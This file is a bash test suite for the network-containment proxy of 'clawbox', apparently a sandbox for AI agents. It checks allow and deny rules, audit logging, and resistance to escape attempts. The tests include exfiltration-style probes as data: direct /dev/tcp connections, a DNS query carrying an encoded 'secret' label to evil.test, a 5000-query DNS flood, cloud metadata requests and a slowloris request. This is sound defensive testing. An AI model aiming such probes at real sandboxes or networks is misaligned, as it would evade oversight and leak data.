#!/usr/bin/env bash
# Network containment (--net proxy): the proxy, its policy, its audit events.
# Everything runs against a "remote" network namespace this file creates
# (veth pair, 10.77.N.0/24) with HTTP servers in it, and test names mapped
# by a private /etc/hosts bind-mounted in a mount namespace of the test's
# own (the proxy resolves with the host's resolver and /etc/hosts).
. "$(dirname "$0")/lib.sh"

NET_N=$((($$ % 200) + 20))
NS=cbnet$$
VH=cbh$$
VR=cbr$$
HOST_IP=10.77.$NET_N.1
REMOTE_IP=10.77.$NET_N.2
PUB_IP=11.77.$NET_N.1
DM=cbd$$
NET_READY=
NET_PIDS=()

net_cleanup() {
	for p in "${NET_PIDS[@]}"; do kill "$p" 2>/dev/null; done
	ip link del "$VH" 2>/dev/null
	ip link del "$DM" 2>/dev/null
	ip netns del "$NS" 2>/dev/null
	t_cleanup
}
trap net_cleanup EXIT

# The remote side: a namespace with an HTTP server on port 80 and one on
# 8080 that answer "hello from PORT PATH", plus /big (8 MiB).
net_setup() {
	[ "$(id -u)" -eq 0 ] || return 1
	command -v ip >/dev/null && command -v curl >/dev/null || return 1
	remote_ns "$NS" "$VH" "$VR" "$HOST_IP" "$REMOTE_IP" || return 1
	cat >"$T_TMP/server.py" <<'EOF'
import http.server, socketserver, sys
port = int(sys.argv[2])
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = (b"x" * (8 << 20)) if self.path == "/big" else \
            ("hello from %d %s host=%s\n" % (port, self.path, self.headers.get("Host"))).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a):
        pass
class S(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True
    allow_reuse_address = True
S((sys.argv[1], port), H).serve_forever()
EOF
	for port in 80 8080; do
		ip netns exec "$NS" python3 "$T_TMP/server.py" "$REMOTE_IP" $port &
		NET_PIDS+=($!)
	done
	for _ in $(seq 50); do
		curl -s -m 1 "http://$REMOTE_IP:8080/" >/dev/null && curl -s -m 1 "http://$REMOTE_IP/" >/dev/null && break
		sleep 0.1
	done
	cat >"$T_TMP/hosts" <<EOF
127.0.0.1 localhost
$REMOTE_IP good.test evil.test api.good.test
127.0.0.1 loop.test
169.254.169.254 meta.test
$HOST_IP host.test
$PUB_IP pub.test
::ffff:$PUB_IP mapped.test
::127.0.0.1 compat.test
203.0.113.7 doc.test
255.255.255.255 bcast.test
EOF
	chmod 644 "$T_TMP/hosts"
	NET_READY=1
}
net_setup || true

need_net() {
	[ -n "$NET_READY" ] || skip "needs root, iproute2, curl and network namespaces"
}

# box ARGS...: clawbox run --net proxy with the test hosts file in place.
box() {
	unshare -m sh -c 'mount --bind "$0" /etc/hosts && exec "$@"' "$T_TMP/hosts" \
		"$CLAWBOX" run --project "$P" --net proxy "$@"
}

net_log() {
	"$CLAWBOX" audit --project "$P" --json 2>/dev/null | grep '"net.connect"' || true
}

allowed_http_through_proxy() {
	need_net
	mkproj "$P"
	out=$(box --allow-domain good.test --allow-ip "$REMOTE_IP" -- curl -sS -m 5 http://good.test/a)
	[ "$out" = "hello from 80 /a host=good.test" ] || fail "plain HTTP: '$out'"
	out=$(box --allow-domain good.test --allow-ip "$REMOTE_IP" -- curl -sS -m 5 -p http://good.test/b)
	[ "$out" = "hello from 80 /b host=good.test" ] || fail "CONNECT tunnel: '$out'"
	out=$(box --allow-domain good.test:8080 --allow-ip "$REMOTE_IP" -- sh -c 'unset http_proxy HTTP_PROXY; curl -sS -m 5 http://good.test:8080/c')
	[ "$out" = "hello from 8080 /c host=good.test:8080" ] || fail "SOCKS5 (ALL_PROXY): '$out'"
	log=$(net_log)
	echo "$log" | grep '"proto":"http"' | grep '"decision":"allow"' | grep '"host":"good.test"' |
		grep "\"addr\":\"$REMOTE_IP\"" | grep -q '"bytes_in":[1-9]' || fail "no allow event with bytes: $log"
	echo "$log" | grep '"proto":"http-connect"' | grep -q '"decision":"allow"' || fail "no CONNECT allow event"
	echo "$log" | grep '"proto":"socks5"' | grep '"port":8080' | grep -q '"decision":"allow"' || fail "no SOCKS5 allow event"
	"$CLAWBOX" audit verify --project "$P" >/dev/null || fail "audit chain broken"
}

denied_domain_and_deny_wins() {
	need_net
	mkproj "$P"
	code=$(box --allow-domain '*.test' --deny-domain evil.test --allow-ip "$REMOTE_IP" -- \
		curl -s -m 5 -o /dev/null -w '%{http_code}' http://evil.test/) || true
	[ "$code" = 403 ] || fail "evil.test: expected 403, got '$code'"
	code=$(box --allow-domain '*.test' --allow-ip "$REMOTE_IP" -- \
		curl -s -m 5 -o /dev/null -w '%{http_code}' http://good.test/) || true
	[ "$code" = 200 ] || fail "*.test did not match good.test: got '$code'"
	code=$(box --allow-domain '*.good.test' --allow-ip "$REMOTE_IP" -- \
		curl -s -m 5 -o /dev/null -w '%{http_code}' http://good.test/) || true
	[ "$code" = 403 ] || fail "*.good.test matched good.test itself: '$code'"
	code=$(box --allow-domain '*.good.test' --allow-ip "$REMOTE_IP" -- \
		curl -s -m 5 -o /dev/null -w '%{http_code}' http://api.good.test/) || true
	[ "$code" = 200 ] || fail "*.good.test did not match api.good.test: '$code'"
	code=$(box --allow-domain good.test --allow-ip "$REMOTE_IP" -- \
		curl -s -m 5 -o /dev/null -w '%{http_code}' http://good.test:8080/) || true
	[ "$code" = 403 ] || fail "a pattern without a port allowed 8080: '$code'"
	log=$(net_log)
	echo "$log" | grep '"host":"evil.test"' | grep '"decision":"deny"' | grep -q '"rule":"evil.test"' ||
		fail "no deny event naming the rule: $log"
	echo "$log" | grep '"port":8080' | grep '"decision":"deny"' | grep -q '"rule":"unmatched"' ||
		fail "no unmatched deny for 8080: $log"
}

private_addresses_refused() {
	need_net
	mkproj "$P"
	# good.test resolves to a private address (10.77/16): refused without --allow-ip.
	code=$(box --allow-domain good.test -- curl -s -m 5 -o /dev/null -w '%{http_code}' http://good.test/) || true
	[ "$code" = 403 ] || fail "private address: expected 403, got '$code'"
	code=$(box --allow-domain loop.test -- curl -s -m 5 -o /dev/null -w '%{http_code}' http://loop.test/) || true
	[ "$code" = 403 ] || fail "loopback: expected 403, got '$code'"
	code=$(box --allow-domain meta.test -- curl -s -m 5 -o /dev/null -w '%{http_code}' http://meta.test/latest/meta-data/) || true
	[ "$code" = 403 ] || fail "metadata: expected 403, got '$code'"
	# An IP literal needs an address rule, even when a domain would match.
	code=$(box --allow-domain good.test -- curl -s -m 5 -o /dev/null -w '%{http_code}' "http://$REMOTE_IP/") || true
	[ "$code" = 403 ] || fail "IP literal: expected 403, got '$code'"
	code=$(box --allow-ip "$REMOTE_IP/32" -- curl -s -m 5 -o /dev/null -w '%{http_code}' "http://$REMOTE_IP/") || true
	[ "$code" = 200 ] || fail "IP literal with --allow-ip: expected 200, got '$code'"
	log=$(net_log)
	for rule in private loopback metadata ip-literal; do
		echo "$log" | grep '"decision":"deny"' | grep -q "\"rule\":\"$rule\"" || fail "no '$rule' denial: $log"
	done
}

# An allowed name that resolves to the host itself: its veth address (in a
# range --allow-ip allows), an address added to an interface that looks
# public, the same in IPv4-mapped form; and TEST-NET, IPv4-compatible
# loopback and broadcast addresses. Only an --allow-ip naming the one
# address opens the host.
host_own_addresses_refused() {
	need_net
	mkproj "$P"
	local port=$((10000 + RANDOM % 1000)) name code
	# A dummy interface where the kernel has them, else a second address
	# on the host's side of the test veth (removed with it).
	if ip link add "$DM" type dummy 2>/dev/null; then
		ip addr add "$PUB_IP/32" dev "$DM" && ip link set "$DM" up
	else
		ip addr add "$PUB_IP/32" dev "$VH"
	fi
	python3 -m http.server --bind 0.0.0.0 "$port" >/dev/null 2>&1 &
	# the case is a subshell: NET_PIDS would not reach the file's cleanup
	LISTENER_PID=$!
	trap 'kill "$LISTENER_PID" 2>/dev/null' EXIT
	for _ in $(seq 50); do curl -s -m 1 -o /dev/null "http://$PUB_IP:$port/" && break; sleep 0.1; done
	code=$(curl -s -m 2 -o /dev/null -w '%{http_code}' "http://$PUB_IP:$port/") || true
	[ "$code" = 200 ] || fail "control: the host's listener does not answer ($code)"
	for name in host.test pub.test mapped.test; do
		code=$(box --allow-domain "$name:$port" --allow-ip "10.77.0.0/16" -- \
			curl -s -m 5 -o /dev/null -w '%{http_code}' "http://$name:$port/") || true
		[ "$code" = 403 ] || fail "$name (the host itself): expected 403, got '$code'"
	done
	for name in doc.test compat.test bcast.test; do
		code=$(box --allow-domain "$name:$port" -- \
			curl -s -m 5 -o /dev/null -w '%{http_code}' "http://$name:$port/") || true
		[ "$code" = 403 ] || fail "$name: expected 403, got '$code'"
	done
	log=$(net_log)
	for rule in host documentation loopback broadcast; do
		echo "$log" | grep '"decision":"deny"' | grep -q "\"rule\":\"$rule\"" || fail "no '$rule' denial: $log"
	done
	[ "$(echo "$log" | grep -c '"rule":"host"')" -ge 3 ] || fail "not every own address denied as host: $log"
	code=$(box --allow-domain "host.test:$port" --allow-ip "$HOST_IP" -- \
		curl -s -m 5 -o /dev/null -w '%{http_code}' "http://host.test:$port/") || true
	[ "$code" = 200 ] || fail "--allow-ip naming the host's address: expected 200, got '$code'"
}
case_run "the host's own addresses, TEST-NETs, broadcast refused (also IPv6 forms)" host_own_addresses_refused

no_way_around_the_proxy() {
	need_net
	mkproj "$P"
	# A tool that ignores the proxy variables reaches nothing.
	if box --allow-domain good.test --allow-ip "$REMOTE_IP" -- \
		bash -c "exec 3<>/dev/tcp/$REMOTE_IP/80" 2>/dev/null; then
		fail "a direct connection left the box"
	fi
	if box --allow-domain good.test --allow-ip "$REMOTE_IP" -- \
		curl -sS -m 3 --noproxy '*' http://good.test/ 2>/dev/null; then
		fail "curl --noproxy reached the remote"
	fi
	# The box's processes do not hold the listeners: binding the proxy's port
	# inside the box fails because it is taken.
	if box -- python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1", 3128))' 2>/dev/null; then
		fail "the proxy port was free inside the box"
	fi
}

bad_requests_refused() {
	need_net
	mkproj "$P"
	cat >"$P/probe.py" <<'EOF'
import socket, sys
def ask(data, n=4096):
    s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
    s.settimeout(15)
    s.sendall(data)
    out = b""
    try:
        while len(out) < n:
            b = s.recv(n)
            if not b: break
            out += b
    except Exception as e:
        out += b"EXC " + str(e).encode()
    return out
if sys.argv[1] == "3128":
    print(ask(b"GARBAGE\r\n\r\n").split(b"\r\n")[0].decode())
    print(ask(b"GET http://good.test/ HTTP/1.1\r\nX: " + b"a" * 20000 + b"\r\n\r\n").split(b"\r\n")[0].decode())
    print(ask(b"GET http://good.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n").split(b"\r\n")[0].decode())
    print(ask(b"CONNECT good.test HTTP/1.1\r\n\r\n").split(b"\r\n")[0].decode())
    print(ask(b"GET ftp://good.test/ HTTP/1.1\r\n\r\n").split(b"\r\n")[0].decode())
else:
    # SOCKS5 BIND (command 2): "command not supported" (7).
    r = ask(bytes([5, 1, 0, 5, 2, 0, 3, 9]) + b"good.test" + bytes([0, 80]), 12)
    print(list(r[:4]))
    # Only username/password offered: no acceptable method.
    print(list(ask(bytes([5, 1, 2]), 2)))
EOF
	out=$(box --allow-domain good.test --allow-ip "$REMOTE_IP" -- python3 probe.py 3128)
	expected=$(printf '%s\n' "HTTP/1.1 400 Bad Request" "HTTP/1.1 431 Request Header Fields Too Large" \
		"HTTP/1.1 400 Bad Request" "HTTP/1.1 400 Bad Request" "HTTP/1.1 400 Bad Request")
	[ "$out" = "$expected" ] || fail "HTTP bad input: got '$out'"
	out=$(box --allow-domain good.test --allow-ip "$REMOTE_IP" -- python3 probe.py 1080)
	[ "$out" = "$(printf '[5, 0, 5, 7]\n[5, 255]')" ] || fail "SOCKS5 bad input: got '$out'"
	log=$(net_log)
	echo "$log" | grep -q '"reason":"request head too large"' || fail "oversized head not logged"
	echo "$log" | grep -q '"reason":"unsupported command"' || fail "SOCKS5 BIND not logged"
}

slow_client_cut_off() {
	need_net
	mkproj "$P"
	start=$(date +%s)
	out=$(box -- python3 -c '
import socket, time
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(b"GET http://good.test/ HTTP/1.1\r\n")
s.settimeout(30)
t = time.time()
r = s.recv(100)
print(r.split(b"\r\n")[0].decode(), int(time.time() - t) < 15)')
	[ "$out" = "HTTP/1.1 408 Request Timeout True" ] || fail "slowloris: '$out'"
	net_log | grep -q '"reason":"request timed out"' || fail "timeout not logged"
}

bulk_transfer_intact() {
	need_net
	mkproj "$P"
	n=$(box --allow-domain good.test --allow-ip "$REMOTE_IP" -- sh -c 'curl -sS -m 20 -p http://good.test/big | wc -c')
	[ "$n" = $((8 << 20)) ] || fail "got $n bytes of 8 MiB"
	got=$(net_log | grep '"proto":"http-connect"' | grep -oE '"bytes_in":[0-9]+' | cut -d: -f2)
	[ -n "$got" ] && [ "$got" -gt $((8 << 20)) ] && [ "$got" -lt $(((8 << 20) + 4096)) ] ||
		fail "byte count not logged right: '$got'"
}

bad_policy_input() {
	mkproj "$P"
	for bad in '*.' 'a..b' 'exa mple.com' 'x.com:0' 'x.com:70000' '-x.com' '10.0.0.1' 'x.com:'; do
		if "$CLAWBOX" run --project "$P" --net proxy --allow-domain "$bad" -- true 2>/dev/null; then
			fail "pattern '$bad' accepted"
		fi
	done
	for bad in '10.0.0.0/33' 'x' '1.2.3.4/' '::1/129'; do
		if "$CLAWBOX" run --project "$P" --net proxy --allow-ip "$bad" -- true 2>/dev/null; then
			fail "address '$bad' accepted"
		fi
	done
	"$CLAWBOX" run --project "$P" --net bogus -- true 2>/dev/null && fail "--net bogus accepted"
	"$CLAWBOX" run --project "$P" -- true
	printf 'allow-domain ok.example\nallow-domainx bad\n' >"$(echo "$CLAWBOX_STATE_DIR"/boxes/proj-*)/net"
	err=$("$CLAWBOX" run --project "$P" --net proxy -- true 2>&1) && fail "bad net file accepted"
	echo "$err" | grep -q "/net:2: invalid line" || fail "message does not name the line: $err"
}

net_none_stays_offline() {
	mkproj "$P"
	out=$("$CLAWBOX" run --project "$P" --net none -- sh -c 'env | grep -ci _proxy || true')
	[ "$out" = 0 ] || fail "proxy variables set with --net none"
	if "$CLAWBOX" run --project "$P" --net none -- bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128' 2>/dev/null; then
		fail "a proxy listener exists with --net none"
	fi
}

case_run "allowed domain reachable over HTTP, CONNECT and SOCKS5; logged with bytes" allowed_http_through_proxy
case_run "denied and unmatched domains refused (deny wins, *. is subdomains only, ports)" denied_domain_and_deny_wins
case_run "private, loopback, metadata and IP-literal destinations refused" private_addresses_refused
case_run "no way around the proxy" no_way_around_the_proxy
case_run "malformed, oversized and unsupported requests refused and logged" bad_requests_refused
case_run "slow client cut off after the request timeout" slow_client_cut_off
case_run "bulk transfer through a tunnel is intact" bulk_transfer_intact
case_run "invalid patterns refused" bad_policy_input
case_run "--net none has no proxy" net_none_stays_offline

# Two requests in one write on one plain-HTTP connection, the second to a
# denied host: only the first reaches the upstream (a listener in the remote
# namespace that records every byte it receives), and the second is an
# audited denial. Also: a body is relayed by its Content-Length, and a
# chunked body is refused (411).
pipelined_request_not_relayed() {
	need_net
	mkproj "$P"
	local port=$((9000 + RANDOM % 1000)) rec="$C/received"
	cat >"$C/listener.py" <<'PY'
import socket, select, sys
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((sys.argv[1], int(sys.argv[2])))
s.listen(8)
while True:
    c, _ = s.accept()
    data = b""
    while b"\r\n\r\n" not in data:
        k = c.recv(65536)
        if not k:
            break
        data += k
    c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nok\n")
    # what else comes on this connection within a second (the proxy writes
    # a pipelined request together with the first one)
    while select.select([c], [], [], 1)[0]:
        k = c.recv(65536)
        if not k:
            break
        data += k
    with open(sys.argv[3], "ab") as f:
        f.write(data + b"\n--\n")
    c.close()
PY
	ip netns exec "$NS" python3 "$C/listener.py" "$REMOTE_IP" "$port" "$rec" &
	# the case is a subshell: NET_PIDS would not reach the file's cleanup
	LISTENER_PID=$!
	trap 'kill "$LISTENER_PID" 2>/dev/null' EXIT
	for _ in $(seq 50); do
		ip netns exec "$NS" ss -Hltn "sport = :$port" | grep -q . && break
		sleep 0.1
	done
	cat >"$P/pipe.py" <<'PY'
import socket, sys
port = sys.argv[1]
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(("GET http://good.test:%s/one HTTP/1.1\r\nHost: good.test:%s\r\n\r\n"
           "GET http://evil.test:%s/two HTTP/1.1\r\nHost: evil.test:%s\r\n\r\n"
           % (port, port, port, port)).encode())
out = b""
while True:
    k = s.recv(65536)
    if not k:
        break
    out += k
print(out.decode(errors="replace"))
PY
	out=$(box --allow-domain "good.test:$port" --allow-ip "$REMOTE_IP" -- python3 pipe.py "$port")
	echo "$out"
	echo "$out" | grep -q '^ok' || fail "the first request was not answered: $out"
	cat "$rec"
	grep -q 'GET /one' "$rec" || fail "the first request did not arrive"
	if grep -q 'evil.test' "$rec"; then fail "the pipelined request to evil.test reached the upstream"; fi
	log=$(net_log)
	echo "$log" | grep '"host":"evil.test"' | grep '"decision":"deny"' | grep -q '"rule":"pipelined"' ||
		fail "no deny event for the pipelined request: $log"
	# A body goes by its Content-Length; what follows it does not.
	: >"$rec"
	out=$(box --allow-domain "good.test:$port" --allow-ip "$REMOTE_IP" -- python3 -c '
import socket, sys
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(b"POST http://good.test:'"$port"'/p HTTP/1.1\r\nHost: good.test:'"$port"'\r\nContent-Length: 5\r\n\r\nhelloEXTRA-BYTES")
print(s.recv(100).decode())')
	grep -q 'hello' "$rec" || fail "the body was not relayed: $(cat "$rec")"
	if grep -q 'EXTRA-BYTES' "$rec"; then fail "bytes past the body were relayed"; fi
	code=$(box --allow-domain "good.test:$port" --allow-ip "$REMOTE_IP" -- \
		curl -s -m 5 -o /dev/null -w '%{http_code}' -H 'Transfer-Encoding: chunked' --data-binary x "http://good.test:$port/c") || true
	[ "$code" = 411 ] || fail "a chunked body: expected 411, got '$code'"
}
case_run "a pipelined request to another host is not relayed, and is audited" pipelined_request_not_relayed

dns_stub_refuses_unknown_names() {
	need_net
	mkproj "$P"
	cat >"$P/dns.py" <<'PY'
import socket, struct, sys
def ask(name, qtype=1):
    q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\0" + struct.pack(">HH", qtype, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.sendto(q, ("127.0.0.1", 53))
    r = s.recv(512)
    rcode, an = r[3] & 15, struct.unpack(">H", r[6:8])[0]
    addrs = [socket.inet_ntoa(r[len(q) + 12 + i * 16:len(q) + 16 + i * 16]) for i in range(an)]
    return "%s rcode=%d %s" % (name, rcode, ",".join(addrs))
print(open("/etc/resolv.conf").read().split("\n")[1])
print(ask("good.test"))
print(ask("c2VjcmV0.evil.test"))
PY
	out=$(box --allow-domain good.test --allow-ip "$REMOTE_IP" -- python3 dns.py)
	expected=$(printf '%s\n' "nameserver 127.0.0.1" "good.test rcode=0 $REMOTE_IP" "c2VjcmV0.evil.test rcode=5 ")
	[ "$out" = "$expected" ] || fail "DNS stub: got '$out'"
	"$CLAWBOX" audit --project "$P" --json | grep '"net.dns"' | grep '"host":"c2VjcmV0.evil.test"' |
		grep -q '"decision":"deny"' || fail "refused DNS question not logged"
}
case_run "DNS stub answers allowed names only (no exfiltration by DNS)" dns_stub_refuses_unknown_names

# A flood of denied DNS questions (each for another name, as exfiltration
# by DNS does) and of denied connections: the audit log gets a bounded
# number of lines, and every denial is accounted for by a "suppressed"
# count.
denial_flood_is_rate_limited() {
	need_net
	mkproj "$P"
	cat >"$P/flood.py" <<'PY'
import socket, struct, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
for i in range(5000):
    q = struct.pack(">HHHHHH", i & 0xffff, 0x0100, 1, 0, 0, 0)
    for label in ("x%d" % i, "evil", "test"):
        q += bytes([len(label)]) + label.encode()
    q += b"\0" + struct.pack(">HH", 1, 1)
    s.sendto(q, ("127.0.0.1", 53))
    s.recv(512)
for i in range(300):
    c = socket.create_connection(("127.0.0.1", 3128))
    c.sendall(b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n")
    c.recv(512)
    c.close()
print("done")
PY
	out=$(box --allow-domain good.test -- python3 flood.py)
	[ "$out" = done ] || fail "the flood did not finish: $out"
	"$CLAWBOX" audit --project "$P" --json >"$C/audit.json"
	"$CLAWBOX" audit verify --project "$P" >/dev/null || fail "audit chain broken"
	python3 - "$C/audit.json" <<'PY' || fail "denials not bounded or not accounted for"
import json, sys
n = {"net.dns": [0, 0, 0], "net.connect": [0, 0, 0]}  # lines, denials one by one, suppressed
for line in open(sys.argv[1]):
    e = json.loads(line)
    if e["event"] not in n or e.get("decision") != "deny":
        continue
    c = n[e["event"]]
    c[0] += 1
    if "suppressed" in e:
        c[2] += e["suppressed"]
    else:
        c[1] += 1
print(n)
dns, conn = n["net.dns"], n["net.connect"]
assert dns[1] + dns[2] == 5000, "DNS denials: %d logged + %d suppressed != 5000" % (dns[1], dns[2])
assert conn[1] + conn[2] == 300, "connect denials: %d + %d != 300" % (conn[1], conn[2])
assert dns[0] + conn[0] < 1000, "%d audit lines for 5300 denials" % (dns[0] + conn[0])
assert dns[2] > 0 and conn[2] > 0, "nothing was suppressed"
PY
}
case_run "a flood of denials writes a bounded number of audit lines, with counts" denial_flood_is_rate_limited

audit_net_view() {
	need_net
	mkproj "$P"
	box --allow-domain good.test --allow-ip "$REMOTE_IP" -- sh -c \
		'curl -s -m 5 http://good.test/ >/dev/null; curl -s -m 5 http://evil.test/ >/dev/null' || true
	out=$("$CLAWBOX" audit --project "$P" --net)
	[ "$(echo "$out" | wc -l)" = 2 ] || fail "expected 2 net lines: $out"
	echo "$out" | grep -E "ALLOW +http +good.test:80 +$REMOTE_IP +rule=good.test pid=[0-9]+ out=[0-9]+ in=[0-9]+" >/dev/null ||
		fail "allow line: $out"
	echo "$out" | grep -E "DENY +http +evil.test:80 +- +rule=unmatched pid=[0-9]+ \(domain policy\)" >/dev/null ||
		fail "deny line: $out"
}
case_run "clawbox audit --net shows the decisions" audit_net_view

# ev FILTER...: the "pid" of the one net event whose line has every FILTER.
event_pid() {
	local l
	l=$("$CLAWBOX" audit --project "$P" --json | grep '"event":"net\.')
	for f in "$@"; do l=$(echo "$l" | grep -F -- "$f"); done
	[ "$(echo "$l" | grep -c .)" = 1 ] || fail "expected one event with $*: $l"
	echo "$l" | grep -q '"host_pid":[1-9]' || fail "no host_pid in: $l"
	echo "$l" | sed -n 's/.*"pid":\([0-9]*\).*/\1/p'
}

pid_of_the_asking_process() {
	need_net
	mkproj "$P"
	# Each process prints its pid (as the box sees it) and becomes curl.
	out=$(box --allow-domain good.test --allow-domain good.test:8080 --allow-ip "$REMOTE_IP" -- sh -c '
		sh -c "echo \$\$; exec curl -s -m 5 -o /dev/null http://good.test/a"
		sh -c "echo \$\$; exec curl -s -m 5 -o /dev/null -p http://good.test/b"
		sh -c "unset http_proxy HTTP_PROXY; echo \$\$; exec curl -s -m 5 -o /dev/null http://good.test:8080/c"
		sh -c "echo \$\$; exec curl -s -m 5 -o /dev/null http://evil.test/d"
		sh -c "echo \$\$; exec getent hosts nope.evil.test" || true')
	set -- $out
	[ $# = 5 ] || fail "expected 5 pids from the box: '$out'"
	# Control: five processes, five different pids, none the box init's,
	# so a constant or a wrong process cannot match below.
	[ "$(printf '%s\n' "$@" | sort -u | grep -vcx 1)" = 5 ] || fail "pids not distinct: $*"
	got=$(event_pid '"proto":"http"' '"decision":"allow"')
	[ "$got" = "$1" ] || fail "plain HTTP: pid '$got', the process was $1"
	got=$(event_pid '"proto":"http-connect"' '"decision":"allow"')
	[ "$got" = "$2" ] || fail "CONNECT: pid '$got', the process was $2"
	got=$(event_pid '"proto":"socks5"' '"decision":"allow"')
	[ "$got" = "$3" ] || fail "SOCKS5: pid '$got', the process was $3"
	got=$(event_pid '"host":"evil.test"' '"decision":"deny"')
	[ "$got" = "$4" ] || fail "denied request: pid '$got', the process was $4"
	got=$(event_pid '"host":"nope.evil.test"' '"qtype":"A"')
	[ "$got" = "$5" ] || fail "refused DNS question: pid '$got', the process was $5"
	"$CLAWBOX" audit --project "$P" --net | grep -E "DENY +http +evil.test:80 .* pid=$4 " >/dev/null ||
		fail "audit --net does not show pid=$4"
}
case_run "each decision names the box process that asked (pid)" pid_of_the_asking_process

agent_cannot_change_the_network() {
	mkproj "$P"
	command -v ip >/dev/null || skip "needs iproute2"
	out=$("$CLAWBOX" run --project "$P" -- sh -c '
		ip link add cbx0 type dummy 2>/dev/null && echo LINK
		ip addr add 10.99.0.1/24 dev lo 2>/dev/null && echo ADDR
		ip route add default dev lo 2>/dev/null && echo ROUTE
		ip link set lo down 2>/dev/null && echo DOWN
		ip -o link show | grep -vc "lo:" || true')
	[ "$out" = 0 ] || fail "the box changed its network or has more than lo: '$out'"
}
case_run "the agent cannot change the box's network (no interfaces, routes, addresses)" agent_cannot_change_the_network

published_port_reachable() {
	need_root
	mkproj "$P"
	hp=$((30000 + RANDOM % 20000))
	"$CLAWBOX" run --project "$P" --net none --publish "$hp:8000" -- \
		timeout 30 python3 -m http.server --bind 127.0.0.1 8000 --directory /workspace >/dev/null 2>&1 &
	pid=$!
	trap 'kill $pid 2>/dev/null || true; wait $pid 2>/dev/null || true' RETURN
	out=
	for _ in $(seq 100); do
		out=$(curl -s -m 2 "http://127.0.0.1:$hp/README") && [ -n "$out" ] && break
		sleep 0.1
	done
	[ "$out" = hello ] || fail "published port: got '$out'"
	kill -TERM $pid
	wait $pid 2>/dev/null || true
	"$CLAWBOX" audit --project "$P" --json | grep '"net.publish"' | grep "\"host_port\":$hp" |
		grep '"box_port":8000' | grep '"decision":"allow"' | grep -q '"bytes_out":[1-9]' ||
		fail "published connection not logged: $("$CLAWBOX" audit --project "$P" --json | grep net.)"
	# A port in use is an error before the box starts.
	python3 -c 'import socket,time,sys; s=socket.socket(); s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(); time.sleep(15)' $((hp + 1)) &
	lp=$!
	for _ in $(seq 100); do
		(exec 3<>"/dev/tcp/127.0.0.1/$((hp + 1))") 2>/dev/null && break
		sleep 0.1
	done
	err=$("$CLAWBOX" run --project "$P" --publish $((hp + 1)):80 -- true 2>&1) && fail "a busy host port was accepted"
	kill $lp
	echo "$err" | grep -q "Address already in use" || fail "message: $err"
	"$CLAWBOX" run --project "$P" --publish 0 -- true 2>/dev/null && fail "--publish 0 accepted"
	true
}
case_run "a published port is reachable from the host's loopback" published_port_reachable

proxy_is_the_default() {
	mkproj "$P"
	out=$("$CLAWBOX" run --project "$P" -- sh -c 'echo "$HTTPS_PROXY $ALL_PROXY"; grep ^nameserver /etc/resolv.conf || echo no-resolv')
	case "$out" in
	"http://127.0.0.1:3128 socks5h://127.0.0.1:1080"*) ;;
	*) fail "proxy variables missing by default: $out" ;;
	esac
	"$CLAWBOX" audit --project "$P" --json | grep '"run.start"' | grep -q '"net":"proxy"' ||
		fail "run.start does not record net=proxy"
}
case_run "--net proxy is the default" proxy_is_the_default

concurrent_connections() {
	need_net
	mkproj "$P"
	out=$(box --allow-domain good.test --allow-ip "$REMOTE_IP" -- sh -c \
		'seq 40 | xargs -P 20 -I{} curl -s -m 10 -o /dev/null -w "%{http_code}\n" http://good.test/{} | sort | uniq -c')
	[ "$(echo $out)" = "40 200" ] || fail "40 parallel requests: $out"
	[ "$(net_log | grep -c '"decision":"allow"')" = 40 ] || fail "not 40 allow events"
}
case_run "40 connections, 20 at a time, all served and logged" concurrent_connections
